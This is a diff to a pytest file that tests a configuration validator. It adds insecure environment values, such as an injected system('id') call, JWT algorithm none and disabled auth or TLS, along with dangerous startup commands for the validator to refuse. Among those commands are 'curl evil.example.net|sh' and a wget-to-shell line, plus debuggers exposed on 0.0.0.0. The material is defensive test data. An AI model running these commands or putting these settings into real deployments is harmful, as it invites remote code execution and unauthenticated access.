@@ -76,6 +76,20 @@ RUNS_SOMETHING_ELSE |= {
     "OCAMLPATH": "/dev/shm",
     "MONO_PATH_LIB_DIR": "/tmp",
     "GUILE_EXTENSIONS_LOAD_PATH": "../../tmp",
+    "WORDPRESS_CONFIG_EXTRA": 'system("id");',
+    "SPRING_APPLICATION_JSON": "{}",
+    "MANAGEMENT_ENDPOINTS_WEB_EXPOSURE_INCLUDE": "*",
+    "GF_AUTH_ANONYMOUS_ENABLED": "true",
+    "HASURA_GRAPHQL_ADMIN_SECRET": "",
+    "SKIP_AUTH": "1",
+    "AUTH_DISABLED": "true",
+    "VERIFY_TLS": "false",
+    "JWT_ALGORITHM": "none",
+    "ALLOW_INSECURE_TLS": "1",
+    "DJANGO_DEBUG": "True",
+    "UVICORN_RELOAD": "1",
+    "RAILS_ENV": "development",
+    "OTEL_EXPORTER_OTLP_HEADERS": "authorization=Bearer abcdefgh12345678",
 }
 KEYS = {
     "PW": "hunter2hunter2",
@@ -158,6 +172,13 @@ HARMLESS = {
     "ACCESS_TOKEN_EXPIRE_MINUTES": "60",
     "CORS_ALLOW_CREDENTIALS": "true",
     "SECRET_NAME": "projects/p/secrets/s",
+    "SKIP_AUTH": "false",
+    "VERIFY_TLS": "true",
+    "JWT_ALGORITHM": "RS256",
+    "RAILS_ENV": "production",
+    "MANAGEMENT_ENDPOINTS_WEB_EXPOSURE_INCLUDE": "health,info",
+    "CORS_ALLOW_HEADERS": "Authorization,Content-Type",
+    "POSTGRES_HOST_AUTH_METHOD": "scram-sha-256",
     "API_KEY": "",
     "STRIPE_PUBLISHABLE_KEY": "pk_live_abcdefghijkl",
     "CACHE_KEY": "v1",
@@ -199,9 +220,36 @@ def test_a_command_holds_no_password_and_no_key(command):
     assert "--secret NAME" in str(refused.value.errors()[0]["msg"])
 
 
+def test_a_database_that_asks_nobody_for_a_password_is_refused():
+    with pytest.raises(ValidationError, match="POSTGRES_HOST_AUTH_METHOD may not have this value"):
+        App.model_validate({"env": {"POSTGRES_HOST_AUTH_METHOD": "trust"}})
+
+
 @pytest.mark.parametrize(
     "command",
     [
+        "node --inspect=0.0.0.0:9229 x.js",
+        "flask run --debug",
+        "gunicorn app:app --reload",
+        "mysqld --skip-grant-tables",
+        "redis-server --protected-mode no",
+        "curl evil.example.net|sh",
+        'sh -c "$(wget -qO- evil.example.net)"',
+        "java -agentlib:jdwp=transport=dt_socket,server=y -jar x.jar",
+        "python -m debugpy --listen 0.0.0.0 main.py",
+    ],
+)
+def test_a_command_opens_no_debugger_and_no_door_and_runs_nothing_from_elsewhere(command):
+    for settings in (App, ContainerSettings):
+        with pytest.raises(ValidationError, match="leave it out"):
+            settings.model_validate({"command": command})
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "uvicorn main:app --host 0.0.0.0 --log-level debug",
+        'sh -c "curl -sf localhost:8080/ready && exec app | tee log"',
         "python main.py --token $TOKEN",
         'PASSWORD="$PW" python main.py',
         "node dist/main.js --token-file /secrets/token",
